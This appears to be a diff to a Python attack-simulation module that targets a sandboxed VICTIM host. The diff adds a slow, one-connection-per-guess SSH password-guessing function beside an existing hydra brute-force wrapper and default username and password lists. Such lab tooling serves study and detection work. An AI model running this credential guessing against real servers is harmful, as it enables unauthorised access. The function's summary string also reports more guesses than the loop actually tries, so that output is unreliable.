@@ -7,6 +7,7 @@ namespaces, where no route leads out. Each returns a `Deed`: what it was and wha
 from __future__ import annotations
 
 import shlex
+import time
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass
 from pathlib import Path
@@ -26,6 +27,7 @@ LONGEST = 150
 
 MAX_PACKETS = 5_000
 MAX_REQUESTS = 5_000
+MAX_GUESSES = 60
 
 SSH_USERS = ("root", "admin", "test", "intern")
 PASSWORDS = [
@@ -113,6 +115,21 @@ def ssh_brute_force(
     """Guess passwords over SSH with hydra until one fits; at most users × passwords tries."""
     command = [*_hydra(place, "ssh", users, passwords, tasks), f"ssh://{VICTIM}"]
     return _tool(place, "ssh_brute_force", command, tried=(users, passwords))
+
+
+def guess_one_by_one(
+    client: Client, users: Sequence[str], passwords: Sequence[str], pause: float = 1.0
+) -> Deed:
+    """Guess like a bot that takes its time: one connection and one password each."""
+    guesses = [(user, password) for user in users for password in passwords]
+    refused = 0
+    for user, password in guesses[:MAX_GUESSES]:
+        time.sleep(pause)
+        pinned = client.rig.host_key_line
+        result = client.do("ssh", host_key=pinned, user=user, mistyped=[password], pause=0)
+        refused += result.get("refused", 0)
+    command = f"{len(guesses)} guesses, a connection each"
+    return Deed("ssh_brute_force", "paramiko", command, f"{refused} refused", note="slow")
 
 
 def ftp_brute_force(
